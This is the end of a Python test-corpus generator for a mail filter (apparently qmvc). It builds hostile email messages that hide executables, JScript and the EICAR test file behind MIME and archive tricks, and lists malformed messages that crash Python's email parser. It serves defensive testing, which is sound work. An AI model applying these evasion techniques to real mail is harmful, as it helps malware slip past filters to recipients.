        a("cont-tnef-declared-octet-stream.eml", "winmail.dat carrying invoice.exe, declared application/octet-stream", bad, 99,
          with_file("Invoice 48213", 'filename="winmail.dat"', tnef([("invoice.exe", PE)]))),
        a("cont-rfc822-base64-encoded.eml", "a forwarded message/rfc822 sent base64-encoded, carrying invoice.exe", bad, 99,
          rfc822_base64_with_exe),
        a("cont-zip-local-central-names-differ.eml", "a zip whose central directory (what Explorer and 7-Zip list) names invoice.js while the local header says invoice.md; a JScript", bad, 99,
          with_file("Invoice 48213", 'filename="invoice.zip"', zip_local_name_differs("invoice.js", "invoice.md", JS), "application/zip")),
        a("cont-zip-after-gif-header.eml", "invoice.zip that starts with a GIF image (a GIF/zip polyglot, as self-extractors prepend) holding invoice.exe", bad, 99,
          with_file("Invoice 48213", 'filename="invoice.zip"', zip_after(GIF_HEADER, [("invoice.exe", PE)]), "application/zip")),
        a("cont-zip-member-name-tricks.eml", "a zip whose JScript members are named Rechnung.js. and Rechnung\u2024j\uff53 (normalised: .js)", bad, 99,
          with_file("Rechnung", 'filename="Rechnung.zip"', zip_of([("Rechnung.js.", JS), ("Rechnung\u2024j\uff53", JS)]), "application/zip")),
        a("cont-gzip-single-exe.eml", "invoice.gz: a gzip whose header names invoice.exe", bad, 99,
          with_file("Invoice 48213", 'filename="invoice.gz"', gzip_of("invoice.exe", PE), "application/gzip")),
        a("cont-cab-exe.eml", "a Microsoft cabinet invoice.cab (uncompressed) holding invoice.exe", bad, 99,
          with_file("Invoice 48213", 'filename="invoice.cab"', cab("invoice.exe", PE), "application/vnd.ms-cab-compressed")),
        # 6. types by content
        a("type-pe-root-text-plain.eml", "the whole message is `text/plain` in base64, no MIME multipart, no name: a PE", bad, 99,
          pe_root_text_plain, "filetype"),
        a("type-pe-text-part-no-name.eml", "a base64 text/plain part without a name that is a PE", bad, 99,
          pe_with_headers(["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: base64"]), "filetype"),
        a("type-pe-quoted-printable-text.eml", "a PE as a quoted-printable text/plain part without a name", bad, 99,
          lambda: mixed("Invoice", [part(["Content-Type: text/plain; charset=iso-8859-1", "Content-Transfer-Encoding: quoted-printable"], quopri.encodestring(PE).decode("ascii"))]), "filetype"),
        a("type-pe-attachment-no-name.eml", "`Content-Disposition: attachment` without a name, declared image/jpeg: a PE", bad, 99,
          pe_with_headers(["Content-Type: image/jpeg", "Content-Transfer-Encoding: base64", "Content-Disposition: attachment"]), "filetype"),
        a("type-elf-text-plain.eml", "a Linux ELF executable (ET_EXEC) as a base64 text/plain part", bad, 99,
          lambda: mixed("Tool", [part(["Content-Type: text/plain", "Content-Transfer-Encoding: base64"], b64(tiny_elf()))]), "filetype"),
        # 7. new dangerous names
        *new_names(),
        # viruses behind the same tricks (harmless names, so the scanner decides)
        a("virus-eicar-uuencoded-in-text.eml", "EICAR uuencoded as notes.txt in a text/plain body", "virus", 99,
          lambda: text_with(uuencode("notes.txt", eicar()), intro="My notes:\n\n")),
        a("virus-eicar-in-zip.eml", "EICAR as readme.txt inside docs.zip", "virus", 99,
          with_file("Docs", 'filename="docs.zip"', zip_of([("readme.txt", eicar())]), "application/zip")),
        a("virus-eicar-root-text-base64.eml", "EICAR as the base64 text/plain root body", "virus", 99,
          lambda: message("Notes", ["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: base64"], b64(eicar()))),
        a("virus-eicar-tnef.eml", "EICAR as notes.txt inside winmail.dat", "virus", 99,
          with_file("Notes", 'filename="winmail.dat"', tnef([("notes.txt", eicar())]), "application/ms-tnef")),
        a("virus-eicar-junk-header-line.eml", "EICAR attachment notes.txt behind a junk line in the top-level header block", "virus", 99,
          lambda: encode(envelope("Notes", mime=False) + "junk without a colon\nMIME-Version: 1.0\n"
                         f'Content-Type: multipart/mixed; boundary="{BOUNDARY}"\n\n'
                         + multipart_body([GREETING, attached('filename="notes.txt"', eicar())]))),
        a("virus-eicar-yenc.eml", "EICAR yEnc-encoded as notes.txt in a text/plain body (clamd does not decode yEnc)", "virus", 99,
          lambda: message("Notes", ["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: 8bit"], "My notes:\n\n" + yencode("notes.txt", eicar()))),
        a("virus-eicar-rar.eml", "EICAR as notes.txt in a RAR archive (Debian's clamd has no unrar)", "virus", 99,
          with_file("Notes", 'filename="notes.rar"', rar4("notes.txt", eicar()), "application/x-rar-compressed")),
        a("virus-eicar-7z.eml", "EICAR as notes.txt in a 7z archive", "virus", 99,
          with_file("Notes", 'filename="notes.7z"', seven_zip("notes.txt", eicar()), "application/x-7z-compressed")),
        a("virus-eicar-cr-only-line-ends.eml", "an EICAR attachment notes.txt in a message with CR-only line ends (clamd does not split CR-only lines)", "virus", 99,
          lambda: mixed("Notes", [attached('filename="notes.txt"', eicar())]).replace(b"\n", b"\r")),
        a("virus-eicar-rfc822-base64.eml", "EICAR as notes.txt in a forwarded message/rfc822 that is itself base64", "virus", 99,
          lambda: mixed("Fwd: Notes", [part(["Content-Type: message/rfc822", "Content-Transfer-Encoding: base64"], b64(encode(envelope("Notes") + 'Content-Type: multipart/mixed; boundary="=_inner"\n\n' + multipart_body([GREETING, attached('filename="notes.txt"', eicar())], boundary="=_inner"))))])),
        a("virus-eicar-space-before-colon.eml", "an EICAR attachment notes.txt whose headers have a space before the colon", "virus", 99,
          lambda: mixed("Notes", [part(["Content-Type : application/octet-stream", "Content-Transfer-Encoding : base64", 'Content-Disposition : attachment; filename="notes.txt"'], b64(eicar()))])),
        # 8. real mail that crashes naive parsers
        a("crash-bounce-8bit-delivery-status.eml", "a qmail bounce from <> (multipart/report) whose delivery-status holds raw ISO-8859-1 `Empfänger unbekannt`; no named file", "clean", 0,
          lambda: bounce(every_block=False), sender=""),
        a("crash-bounce-8bit-every-block.eml", "a bounce from <> with raw 8-bit bytes in every block of its delivery-status and in the returned headers", "clean", 0,
          lambda: bounce(every_block=True), sender=""),
        a("crash-nul-in-rfc2231-charset.eml", "filename*=utf\\0-8''x.pdf on a real PDF (the stdlib raises ValueError)", ANY, None,
          with_file("Report", "filename*=utf\0-8''x.pdf", tiny_pdf(), "application/pdf")),
        a("crash-rfc2231-mixed-forms-pdf.eml", "filename*=utf-8''report.pdf mixed with filename*0=/filename*1= on a real PDF (the stdlib raises TypeError)", ANY, None,
          with_file("Report", "filename*=utf-8''report.pdf; filename*0=\"rep\"; filename*1=\"ort.pdf\"", tiny_pdf(), "application/pdf")),
        a("crash-rfc2231-mixed-forms-in-content-type.eml", "name*0*=/name*= mixed in Content-Type of a real PDF (TypeError in get_param)", ANY, None,
          lambda: mixed("Report", [part(["Content-Type: application/pdf; name*0*=utf-8''rep; name*=ort.pdf", "Content-Transfer-Encoding: base64", "Content-Disposition: attachment"], b64(tiny_pdf()))])),
        a("crash-8bit-in-boundary-and-params.eml", "raw 8-bit bytes in the boundary and in parameters of a real PDF", ANY, None,
          lambda: message("Rechnung", [f'Content-Type: multipart/mixed; boundary="{latin1("Grenze_ä")}"'],
                          multipart_body([GREETING, attached(f'filename="{latin1("Rechnung_März.pdf")}"; size={latin1("zwölf")}', tiny_pdf(), "application/pdf")], boundary=latin1("Grenze_ä")))),
        a("crash-bounce-delivery-status-base64.eml", "a bounce from <> whose message/delivery-status is base64-encoded (8-bit inside)", "clean", 0,
          lambda: bounce(every_block=True, status_base64=True), sender=""),
        a("crash-charset-idna-body.eml", 'text/plain; charset="idna" with 8-bit bytes (the idna codec raises even with errors="replace")', ANY, None,
          text_charset("idna", "Grüße\n".encode("latin-1"))),
        a("crash-charset-punycode-body.eml", 'text/plain; charset="punycode" with 8-bit bytes (UnicodeDecodeError whatever the error handler)', ANY, None,
          text_charset("punycode", "Grüße\n".encode("latin-1"))),
        a("crash-charset-nul-body.eml", 'text/plain; charset="utf\\0-8": a NUL in the charset of the body (ValueError)', ANY, None,
          text_charset("utf\0-8", "Grüße\n".encode())),
        a("crash-charset-8bit-body.eml", "a raw 8-bit byte in the body's charset name (UnicodeEncodeError in codecs.lookup)", ANY, None,
          text_charset(latin1("utf-8ä"), "Grüße\n".encode())),
        a("crash-encoded-words-bad-codecs.eml", "encoded words in codecs that raise: Subject =?idna?B?...?=, a name =?punycode?Q?...?=, filename*=idna''...", ANY, None,
          lambda: mixed("=?idna?B?w6TDtg==?= and =?utf\0-8?Q?x?=", [attached('filename="=?punycode?Q?=E4=FC.pdf?="; size=10', tiny_pdf(), 'application/pdf; name*=idna\'\'%E4%FC.pdf')])),
        # own tricks
        a("own-delimiter-trailing-whitespace.eml", "delimiter lines `--boundary` followed by spaces and tabs (transport padding, RFC 2046)", bad, 99,
          lambda: message("Invoice 48213", [f'Content-Type: multipart/mixed; boundary="{BOUNDARY}"'], multipart_body([GREETING, EXE_PART], delimiter=" \t ")), "filename"),
        a("own-header-names-upper-case.eml", "`CONTENT-TYPE: MULTIPART/MIXED; BOUNDARY=...` and an upper-case `FILENAME=` parameter", bad, 99,
          lambda: message("Invoice 48213", [f'CONTENT-TYPE: MULTIPART/MIXED; BOUNDARY="{BOUNDARY}"'], multipart_body([GREETING, part(["CONTENT-TYPE: APPLICATION/OCTET-STREAM", "CONTENT-TRANSFER-ENCODING: BASE64", 'CONTENT-DISPOSITION: ATTACHMENT; FILENAME="INVOICE.EXE"'], b64(PE))])), "filename"),
        a("own-cr-only-line-ends.eml", "the whole message with CR-only line ends (classic Mac)", bad, 99,
          lambda: mixed("Invoice 48213", [EXE_PART]).replace(b"\n", b"\r"), "filename"),
        a("own-cte-base64-with-junk.eml", "`Content-Transfer-Encoding: base64 (encoded)` on photo.jpg: clients still decode base64; the content is a PE", bad, 99,
          lambda: mixed("Photo", [part(["Content-Type: image/jpeg", "Content-Transfer-Encoding: base64 (encoded)", 'Content-Disposition: attachment; filename="photo.jpg"'], b64(PE))]), "filetype"),
        a("own-two-content-types-first-named.eml", "two Content-Type headers: the first names invoice.exe, the second says text/plain", bad, 99,
          pe_with_headers(['Content-Type: application/octet-stream; name="invoice.exe"', "Content-Type: text/plain", "Content-Transfer-Encoding: base64", "Content-Disposition: attachment"]), "filename"),
        a("own-two-content-types-last-named.eml", "two Content-Type headers: the first text/plain, the last names invoice.exe", bad, 99,
          pe_with_headers(["Content-Type: text/plain", 'Content-Type: application/octet-stream; name="invoice.exe"', "Content-Transfer-Encoding: base64", "Content-Disposition: attachment"]), "filename"),
        a("own-two-dispositions.eml", "two Content-Disposition headers: inline first, then attachment; filename=invoice.js (a JScript)", bad, 99,
          lambda: mixed("Invoice", [part(["Content-Type: application/octet-stream", "Content-Transfer-Encoding: base64", "Content-Disposition: inline", 'Content-Disposition: attachment; filename="invoice.js"'], b64(JS))]), "filename"),
        a("own-unquoted-name-with-spaces.eml", "an unquoted name with spaces: filename=Invoice 48213 final.exe", bad, 99,
          pe_named("filename=Invoice 48213 final.exe"), "filename"),
        a("own-unterminated-quote.eml", 'a quoted name whose closing quote is missing: filename="invoice.exe', bad, 99,
          pe_named('filename="invoice.exe'), "filename"),
        a("own-semicolon-in-quoted-name.eml", 'a semicolon inside the quoted name: filename="invoice;.pdf;.js" on a JScript', bad, 99,
          with_file("Invoice", 'filename="invoice;.pdf;.js"', JS), "filename"),
        a("own-folded-name.eml", "the RFC 2231 name folded across header lines: filename*0=\"invoice.\" CRLF TAB filename*1=\"exe\"", bad, 99,
          pe_named('\n\tfilename*0="invoice.";\n\tfilename*1="exe"'), "filename"),
        a("own-inline-image-named-exe.eml", "`Content-Disposition: inline; filename=\"scan.exe\"` on image/png (shown in the attachment list)", bad, 99,
          lambda: mixed("Scan", [part(["Content-Type: image/png", "Content-Transfer-Encoding: base64", 'Content-Disposition: inline; filename="scan.exe"'], b64(PE))]), "filename"),
        a("own-8bit-latin1-name.eml", "a raw ISO-8859-1 name: filename=\"Rechnung_März.exe\"", bad, 99,
          pe_named(f'filename="{latin1("Rechnung_März.exe")}"'), "filename"),
    ]  # fmt: skip


ATTACKS: list[Attack] = _attacks()


def readme() -> str:
    def cell(text: str) -> str:
        shown = text.replace("|", "\\|").replace("\0", "\\0")
        return "".join(c if c.isprintable() else f"U+{ord(c):04X}" for c in shown)

    def outcome(attack: Attack) -> str:
        if attack.outcome == ANY:
            return "anything but a deferral (111)"
        text = f"{attack.outcome} (exit {attack.exit})"
        return text + (f", rule `{attack.rule}`" if attack.rule else "")

    rows = "\n".join(f"| `{a.name}` | {cell(a.trick)} | {outcome(a)} |" for a in ATTACKS)
    return (
        "# Attack corpus\n\n"
        "Generated by `python3 tests/corpus/attacks/make_attacks.py` (deterministic; do not\n"
        "edit by hand). Each message hides an attachment or a payload the way hostile mail\n"
        "does, so that a mail client shows it while a naive MIME walk does not; `crash-*`\n"
        "messages are real-world shapes that make Python's email package raise. The outcome\n"
        "is what the shipped default policy (`policies/default.qmvc`, its dangerous-names\n"
        "list and ClamAV) must give; `tests/test_attack_corpus.py` checks it through a real\n"
        "`qmvc deliver` and `qmvc explain`. Where a rule is named, it must be the rule that\n"
        "matched: a name that a client shows must be caught by its name, not only by the\n"
        "type of the executable behind it.\n\n"
        f"Envelope: `{SENDER}` to `{RECIPIENT}` (the bounces: `<>`). Payloads: a 1 KB\n"
        "PE32 executable, a static x86-64 ELF, JScript and the EICAR test file. The archives\n"
        "(zip, ZipCrypto zip, tar.gz, gzip, 7z, RAR 4, cabinet, ISO 9660), TNEF, uuencode\n"
        "and yEnc are written byte for byte by `formats.py`, without external tools.\n\n"
        f"{len(ATTACKS)} messages.\n\n"
        "| file | the trick | outcome under the default policy |\n|---|---|---|\n" + rows + "\n"
    )


def main(directory: Path = ATTACKS_DIR) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    for attack in ATTACKS:
        (directory / attack.name).write_bytes(attack.build())
    (directory / "README.md").write_text(readme(), encoding="utf-8")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else ATTACKS_DIR)
